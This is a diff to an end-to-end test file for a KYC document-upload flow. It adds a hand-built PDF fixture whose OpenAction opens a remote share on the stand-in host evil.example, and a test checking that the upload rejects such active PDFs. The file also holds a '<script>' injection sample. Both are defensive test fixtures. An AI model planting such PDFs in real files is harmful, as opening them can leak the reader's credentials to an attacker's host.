@@ -9,6 +9,25 @@ const face = 'Photo of your face';
 const uploads = '**/api/user/documents/uploads/*';
 const partBytes = 512 * 1024;
 
+const pdfThatOpensAShare = Buffer.from(
+  String.raw`%PDF-1.7
+1 0 obj
+<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >> >>
+endobj
+2 0 obj
+<< /Type /Pages /Kids [3 0 R] /Count 1 >>
+endobj
+3 0 obj
+<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>
+endobj
+trailer
+<< /Root 1 0 R >>
+startxref
+9
+%%EOF
+`,
+);
+
 /** Takes a picture with the browser's camera, which shows a test picture. */
 async function photograph(page: Page, heading: string, opener: string): Promise<void> {
   const kind = kindOf(page, heading);
@@ -159,6 +178,10 @@ test('files that are not accepted say why, and nothing of them is sent', async (
   await choose(address, { ...good, buffer: Buffer.concat([good.buffer, Buffer.from('<script>')]) });
   await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
   await expect(address.getByText(word('kyc.error.UPLOAD_TYPE'))).toHaveCount(2);
+  // So is what a PDF does when it is opened.
+  await choose(address, { name: 'bill.pdf', mimeType: 'application/pdf', buffer: pdfThatOpensAShare });
+  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
+  await expect(address.getByText(word('kyc.error.UPLOAD_PDF_ACTIVE'))).toBeVisible();
   expect(await documentsOf(page.request, sharedCasino, account)).toEqual([]);
 });
 
@@ -180,7 +203,10 @@ test('a file is sent once only, and its owner can download it', async ({ page })
   const [document] = await documentsOf(page.request, sharedCasino, account);
   const response = await page.request.get(`/api/user/documents/${document?.documentId}/file`);
   expect(response.headers()['content-disposition']).toContain('attachment');
-  expect((await response.body()).equals(file.buffer)).toBe(true);
+  // Its picture, rendered anew: nothing is kept as it was sent.
+  const served = await response.body();
+  expect(served.subarray(1, 4).toString()).toBe('PNG');
+  expect([served.includes('paDd'), file.buffer.includes('paDd')]).toEqual([false, true]);
 });
 
 test('a guest is asked to log in, and no documents are requested', async ({ page }) => {
